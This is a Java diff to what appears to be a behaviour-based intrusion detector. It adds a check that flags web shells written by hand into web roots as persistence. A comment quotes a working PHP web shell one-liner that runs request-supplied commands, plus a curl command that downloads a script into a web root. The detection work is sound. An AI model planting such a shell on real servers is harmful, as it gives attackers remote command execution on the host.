@@ -1448,6 +1448,10 @@ final class BehaviourAccumulator implements FeatureAccumulator {
         CharSequence args = e.arguments();
         int i = decorationStart(args);
         char first = i > 0 && i < args.length() ? args.charAt(i) : 0;
+        if (first == '/' && handTool && (Indicators.regionIs(args, i, args.length(), "/var/www/")
+                || Indicators.regionIs(args, i, args.length(), "/srv/")) && marks[Feature.IND_PERSISTENCE.ordinal()] == 0) {
+            webShellWritten(e, args); // a shell, a downloader or a one-liner writing a web root: schema 38
+        }
         if (first == '/' && i + 17 <= args.length() && args.charAt(i + 1) == 'p' && args.charAt(i + 6) == 's'
                 && startsWith(args.subSequence(i, i + 17), "/proc/sys/kernel/")) {
             kernelSettingWritten(e);
@@ -1476,6 +1480,20 @@ final class BehaviourAccumulator implements FeatureAccumulator {
             if (handTool && (inet || metadataFd >= 0)) {
                 metadataRequest(e);
             }
+        }
+    }
+
+    /**
+     * A web shell written into a web root by hand ({@code echo '<?php system($_GET["c"]); ?>' > /var/www/html/x.php},
+     * {@code curl -o /srv/www/x.php URL}): a server-side script that runs what a request asks (T1505.003), judged by
+     * {@link Indicators#webShell}. Deploys (cp, rsync, git, tar, composer) are no hand tools and are not looked at.
+     */
+    private void webShellWritten(TraceEvent e, CharSequence args) {
+        String path = Arguments.fdPath(Arguments.nth(args, 0));
+        if (path != null && Indicators.webScript(path) && !underPackageTool
+                && Indicators.webShell(Arguments.decodeString(Arguments.nth(args, 1)))) {
+            set(Feature.IND_PERSISTENCE);
+            note(EvidenceLog.HIGH, e, args);
         }
     }
 
